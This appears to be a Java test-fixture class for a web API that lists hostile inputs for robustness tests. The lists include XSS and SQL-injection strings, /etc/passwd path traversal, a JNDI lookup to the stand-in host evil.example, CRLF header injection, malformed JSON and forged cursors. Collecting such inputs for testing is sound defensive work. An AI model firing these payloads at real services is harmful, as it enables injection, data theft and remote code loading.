package dev.masthead.web;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.UUID;

/**
 * What attackers and broken clients put where a value goes. JSON values are
 * JSON text, so escapes a Java string cannot hold (a lone surrogate) can be
 * sent as they are; path and query values are already percent-encoded.
 */
final class HostileValues {

    private HostileValues() {
    }

    /** Hostile text as JSON string literals. */
    static final List<String> JSON_STRINGS = List.of(
            quote("<script>alert(1)</script>"),
            quote("<img src=x onerror=alert(1)>"),
            quote("\"><svg onload=alert(1)>"),
            quote("javascript:alert(1)"),
            quote("' OR 1=1 --"),
            quote("'; DROP TABLE article; --"),
            quote("1) UNION SELECT password_hash FROM account --"),
            quote("%' AND 1=0 UNION SELECT NULL --"),
            "\"\\u202Eright to left\\u202C override\"",
            "\"lone high \\ud800 surrogate\"",
            "\"\\udfff lone low surrogate\"",
            "\"\\ud800\\ud800 two highs\"",
            "\"nul \\u0000 byte\"",
            "\"\\u0000\"",
            quote("Harbour 🚢🌊 news 👩‍👩‍👧‍👦"),
            quote("𝕳𝖊𝖆𝖉𝖑𝖎𝖓𝖊 𠜎𠜱 𝄞"),
            quote("Z̷̢͎̈a̴͔͐l̶̨̈g̵̱̈́o̸͚͝"),
            quote("e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301"),
            "\"zero\\u200bwidth\\ufeffbom\\u2028line\\u2029para\"",
            "\"bell\\u0007escape\\u001b[31m\"",
            quote("line\r\nX-Injected: 1"),
            quote("../../etc/passwd"),
            quote("${jndi:ldap://evil.example/a}{{7*7}}<%= 7*7 %>"),
            quote("100% %s %n %00 %zz"),
            quote("   "),
            quote(""),
            quote("\u00ad\u034f\u180e"),
            quote("\ufffd\ufffe\uffff"));

    /** Hostile text percent-encoded for a path segment or a query value. */
    static final List<String> ENCODED = List.of(
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%27%20OR%201%3D1%20--",
            "%27%3B%20DROP%20TABLE%20article%3B%20--",
            "%E2%80%AEtxt.exe",
            "%ED%A0%80",
            "%ED%BF%BF%ED%A0%80",
            "%00",
            "a%00b",
            "%C0%AF",
            "%C0%80",
            "%FF%FE",
            "%F0%9F%9A%A2%F0%9F%8C%8A",
            "Z%CC%B7%CC%A2a%CC%B4",
            "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e",
            "%2F",
            "%20",
            "%25",
            "%255C",
            "x".repeat(2_000),
            "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            "-1",
            "0",
            "99999999999999999999",
            "1e309",
            "NaN",
            "null",
            "%5B%5D",
            "%7B%7D");

    /** Accept headers nothing here can answer, or cannot parse. */
    static final List<String> ACCEPTS = List.of("application/xml", "text/html", "application/json;q=0", ";;;",
            "*/*;q=abc", "image/png, text/plain");
    /** Request media types other than the one an operation takes (JSON in other charsets among them). */
    static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=bogus",
            "application/json;;", "*/*", "APPLICATION/JSON", "application/problem+json", "application/json; charset=utf-16");
    /** Bodies that are not one JSON object. */
    static final List<String> MALFORMED = List.of("{", "[]", "null", "\"str\"", "", "{\"a\":", "{'a':1}",
            "{\"a\":1,}", "123", "true", "{}", "/* comment */ {}", "{\"a\":1} {\"b\":2}", "\u0000{}", "[".repeat(5_000),
            "{\"a\":" + "9".repeat(5_000) + "}", "{\"a\":\"unterminated");
    /** If-Match values that name no current version (a DELETE must not go through with one). */
    static final List<String> IF_MATCH = List.of("\"abc\"", "W/\"999999\"", "\"-1\"", "\"99999999999999999999\"",
            "\"\"", "*, *", "\"999998\", \"999999\"", "999999", "W/", "\"1.5\"");
    /** URIs a URL member must not take as a link (or cannot). */
    static final List<String> URIS = List.of("javascript:alert(1)", "JaVaScRiPt:alert(1)",
            "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.example/x", "http://",
            "https://exa mple.org", "not a url", "https://example.org/\u0000", "http://[::1",
            "https://" + "a".repeat(3000) + ".example");

    /** Dates a date-time field or parameter may be given; those past PostgreSQL's range are flagged. */
    static final List<String> DATES = List.of(
            "+294277-01-01T00:00:00Z", "-4713-01-01T00:00:00Z", "+1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z", "+10000-01-01T00:00:00Z", "0000-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z", "1970-01-01T00:00:00Z", "2024-13-01T00:00:00Z", "2024-02-30T00:00:00Z",
            "2024-01-01T24:00:00Z", "2024-01-01", "2024-01-01T00:00:00", "2024-01-01T00:00:00+14:00",
            "2024-01-01T00:00:00-25:00", "2024-01-01T00:00:00.1234567890Z", "now", "1700000000", "");

    /** Whether a date lies outside what a PostgreSQL timestamp holds (4713 BC to 294276 AD). */
    static boolean beyondDatabaseRange(String date) {
        String year = date.replaceFirst("^([+-]?\\d+)-.*$", "$1");
        if (year.equals(date)) {
            return false;
        }
        long value = Long.parseLong(year.replace("+", ""));
        return value > 294_276 || value < -4_712;
    }

    /**
     * Cursors in this API's own shape (base64url of direction, epoch second,
     * nano and id) with values it never issues. Flagged as forged: a cursor
     * is opaque, but its decoder must still refuse what it did not issue.
     */
    static List<String> forgedCursors() {
        UUID id = new UUID(1, 2);
        return List.of(
                cursor("d:" + Long.MAX_VALUE + ":0:" + id), cursor("a:" + Long.MIN_VALUE + ":0:" + id),
                cursor("d:9223372036854:0:" + id), cursor("d:-9223372036854:0:" + id),
                cursor("d:253402300800:0:" + id), cursor("d:-62167219201:0:" + id),
                cursor("d:9000000000000:0:" + id), cursor("d:9300000000000:0:" + id),
                cursor("d:31556889864403199:0:" + id), cursor("d:-31557014167219200:0:" + id),
                cursor("d:-300000000000:0:" + id), cursor("a:-210000000000:0:" + id),
                cursor("d:1:999999999999:" + id), cursor("d:1:-1:" + id), cursor("d:1:0:not-a-uuid"),
                cursor("x:1:0:" + id), cursor("d:1:0"), cursor("d::::"), cursor("d:1:0:" + id + ":extra"));
    }

    /** Cursors that are not even in the API's shape. */
    static final List<String> BROKEN_CURSORS = List.of("!!!", "%3D%3D", "AAAA", "x".repeat(1_000), "%00",
            "ZDox", "Jw", "%F0%9F%9A%A2");

    private static String cursor(String raw) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(raw.getBytes(StandardCharsets.US_ASCII));
    }

    /** A Java string as a JSON string literal, with what JSON needs escaped. */
    static String quote(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                case '\r' -> json.append("\\r");
                case '\n' -> json.append("\\n");
                default -> {
                    if (c < 0x20) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }
}
